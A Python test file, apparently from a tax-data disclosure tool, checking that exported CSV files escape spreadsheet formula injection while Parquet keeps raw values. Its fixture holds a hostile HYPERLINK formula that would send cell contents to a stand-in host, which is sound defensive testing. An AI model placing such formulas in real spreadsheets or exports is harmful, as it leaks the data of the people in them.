"""A package's data.csv is safe to open in a spreadsheet (OWASP CSV injection), while its
Parquet keeps the raw values and `fti disclose verify` still passes."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import duckdb
import pyarrow.parquet as pq

from fti_gateway.core.csvsafe import FORMULA_STARTS
from fti_gateway.core.keys import load_signing_key
from fti_gateway.core.workspace import Workspace
from fti_gateway.disclose import build_package, verify_package
from tests.disclose.conftest import make_spec, master_frame, subjects

# One hostile value per dangerous first character, in the vault and as subject ids.
HOSTILE = [c + 'HYPERLINK("http://x.invalid/?"&A1)' for c in FORMULA_STARTS]
ELEMENTS = ["identity.name", "identity.address", "info_return.w2.employer", "info_return.w2.wages"]


def test_vault_values_and_subject_ids_come_out_escaped(
    workspace: Workspace, tmp_path: Path
) -> None:
    master = master_frame()
    n = len(master)
    master["first_name"] = [HOSTILE[i % len(HOSTILE)] for i in range(n)]
    master["city"] = [HOSTILE[(i + 3) % len(HOSTILE)] for i in range(n)]
    master["info_return.w2.employer"] = [HOSTILE[(i + 5) % len(HOSTILE)] for i in range(n)]
    master["info_return.w2.wages"] = -12.5  # a negative wage stays a number
    path = tmp_path / "master.parquet"
    master.to_parquet(path, index=False)
    con = duckdb.connect()
    con.execute(f"CREATE VIEW master AS SELECT * FROM read_parquet('{path}')")
    ids = [HOSTILE[0], HOSTILE[1], HOSTILE[2]]
    people = subjects(*zip(ids, ["TP000000001", "TP000000002", "TP000000003"], strict=True))
    out = tmp_path / "pkg"
    build_package(out, make_spec(ELEMENTS), people, con, load_signing_key(workspace.keys_dir))
    con.close()

    raw = pq.read_table(out / "data.parquet").to_pandas()
    rows = list(csv.DictReader(io.StringIO((out / "data.csv").read_bytes().decode(), newline="")))
    assert len(rows) == len(raw) > 0
    text_columns = ["subject_id", "first_name", "city", "info_return.w2.employer"]
    seen = set()
    for got, want in zip(rows, raw.to_dict("records"), strict=True):
        for column in text_columns:
            assert want[column] in HOSTILE  # the Parquet keeps the raw value
            assert got[column] == "'" + want[column], column
            seen.add(want[column][0])
        assert got["info_return.w2.wages"] == "-12.5"
    assert len(seen) >= 8  # most of the dangerous characters were exercised

    assert verify_package(out).ok
    done = subprocess.run(
        [sys.executable, "-m", "fti_gateway", "disclose", "verify", str(out)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
